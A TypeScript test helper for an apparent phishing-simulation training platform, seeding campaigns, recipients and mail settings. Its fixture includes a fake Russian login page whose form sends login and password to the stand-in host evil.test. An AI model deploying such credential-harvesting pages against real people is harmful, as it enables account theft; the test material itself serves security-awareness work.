import { randomUUID } from 'node:crypto';
import type pg from 'pg';
import type { Attachment } from '@sergak/contract/phishing/phishing.rules.ts';
import type { Platform } from '../../src/platform/context.ts';
import { newTrackingKey } from '../../src/platform/secrets.ts';

export type InsertedCampaign = { organizationId: string; campaignId: string; emailId: string; domain: string };
type Changes = {
  status?: 'creating' | 'planned' | 'active' | 'completed';
  is_testing?: boolean;
  spread?: boolean;
  html?: string;
  page_html?: string | null;
  subject?: string;
  attachments?: readonly Attachment[];
  end_at?: Date;
  send_at?: Date;
  settings?: object;
  redirect_page_id?: string | null;
  course_id?: string | null;
  domain?: string;
  /** The recipients; by default new people are created. */
  employees?: readonly string[];
};
const PAGE =
  '<!DOCTYPE html><html><head><title>Вход</title></head><body><form method="post" action="https://evil.test/"><p>{{full_name}}</p>' +
  '<input name="login" data-field="login" value="{{email}}"><input type="password" name="p" data-field="password"><button>Войти</button></form></body></html>';
const HTML = '<html><body><p>{{full_name}}</p><a href="{{link}}">Открыть</a>{{tracking}}</body></html>';

/** A running campaign with one email and this many recipients, inserted directly by the owner. */
export const insertCampaign = async (
  platform: Platform,
  organizationId: string,
  people: number,
  changes: Changes = {},
): Promise<InsertedCampaign> => {
  const { owner } = platform.db;
  const domain =
    changes.domain ??
    (
      await one<{ domain: string }>(
        owner,
        'select domain from organization_domains where organization_id = $1 order by created_at limit 1',
        [organizationId],
      )
    ).domain;
  const emailId = randomUUID();
  const { id: campaignId } = await one<{ id: string }>(
    owner,
    `insert into campaigns (organization_id, name, status, is_testing, spread, settings, start_at, end_at, redirect_page_id, course_id, launched_at, completed_at)
     values ($1, 'Рассылка', $2, $3, $4, $5, now() - interval '1 minute', $6, $7, $8,
       case when $2 in ('active', 'completed') then now() end, case when $2 = 'completed' then now() end) returning id`,
    [
      organizationId,
      changes.status ?? 'active',
      changes.is_testing ?? false,
      changes.spread ?? false,
      JSON.stringify(changes.settings ?? {}),
      changes.end_at ?? new Date(Date.now() + 7 * 86_400_000),
      changes.redirect_page_id ?? null,
      changes.course_id ?? null,
    ],
  );
  await owner.query(
    `insert into campaign_emails (organization_id, campaign_id, email_id, template_id, name, template_name, attack_vector, subject,
       sender_name, sender_address, html, page_html, attachments, tips)
     values ($1, $2, $3, $4, 'Письмо', 'Шаблон', $5, $6, 'Служба поддержки', 'support@help-desk.test', $7, $8, $9, '["Проверьте адрес"]')`,
    [
      organizationId,
      campaignId,
      emailId,
      randomUUID(),
      changes.attachments ? 'attachments' : 'form',
      changes.subject ?? 'Письмо для {{first_name}}',
      changes.html ?? HTML,
      changes.page_html === undefined ? PAGE : changes.page_html,
      JSON.stringify(changes.attachments ?? []),
    ],
  );
  const ids = changes.employees ?? (await addPeople(owner, organizationId, people, domain));
  for (let from = 0; from < ids.length; from += 10_000) {
    const part = ids.slice(from, from + 10_000);
    await owner.query(
      `insert into campaign_recipients (organization_id, campaign_id, email_id, employee_id, tracking_key, message_id, address,
         first_name, last_name, department, send_at)
       select $1, $2, $3, e.id, k.key, '<' || k.key || '@help-desk.test>', e.email, e.first_name, e.last_name, 'Отдел', $6
       from unnest($4::uuid[], $5::text[]) as k (id, key) join employees e on e.id = k.id`,
      [
        organizationId,
        campaignId,
        emailId,
        part,
        part.map(() => newTrackingKey()),
        changes.send_at ?? new Date(Date.now() - 1_000),
      ],
    );
  }
  return { organizationId, campaignId, emailId, domain };
};

const addPeople = async (owner: pg.Pool, organizationId: string, people: number, domain: string): Promise<string[]> => {
  const tail = randomUUID().slice(0, 6);
  const { rows } = await owner.query<{ id: string }>(
    `insert into employees (organization_id, department_id, email, first_name, last_name)
     select $1, (select id from departments where organization_id = $1 and is_default), 'p' || n || '-' || $3 || '@' || $4, 'Анна', 'Ким ' || n
     from generate_series(1, $2::int) as n returning id`,
    [organizationId, people, tail, domain],
  );
  return rows.map((row) => row.id);
};

/** Sets the mail server of the organisation to this one. */
export const mailServer = async (
  platform: Platform,
  organizationId: string,
  port: number,
  connections = 4,
): Promise<void> => {
  await platform.db.owner.query(
    `insert into mail_settings (organization_id, host, port, security, sender_name, sender_address, connections)
     values ($1, '127.0.0.1', $2, 'none', 'Портал', 'portal@portal.test', $3)
     on conflict (organization_id) do update set port = excluded.port, connections = excluded.connections`,
    [organizationId, port, connections],
  );
};

/** Number of emails of a campaign by state. */
export const emailStates = async (platform: Platform, campaignId: string): Promise<Record<string, number>> => {
  const { rows } = await platform.db.owner.query<{ state: string; n: number }>(
    'select state, count(*)::int as n from campaign_recipients where campaign_id = $1 group by state',
    [campaignId],
  );
  return Object.fromEntries(rows.map((row) => [row.state, row.n]));
};

const one = async <T extends object>(owner: pg.Pool, text: string, values: unknown[]): Promise<T> =>
  (await owner.query<T & Record<string, unknown>>(text, values)).rows[0]!;
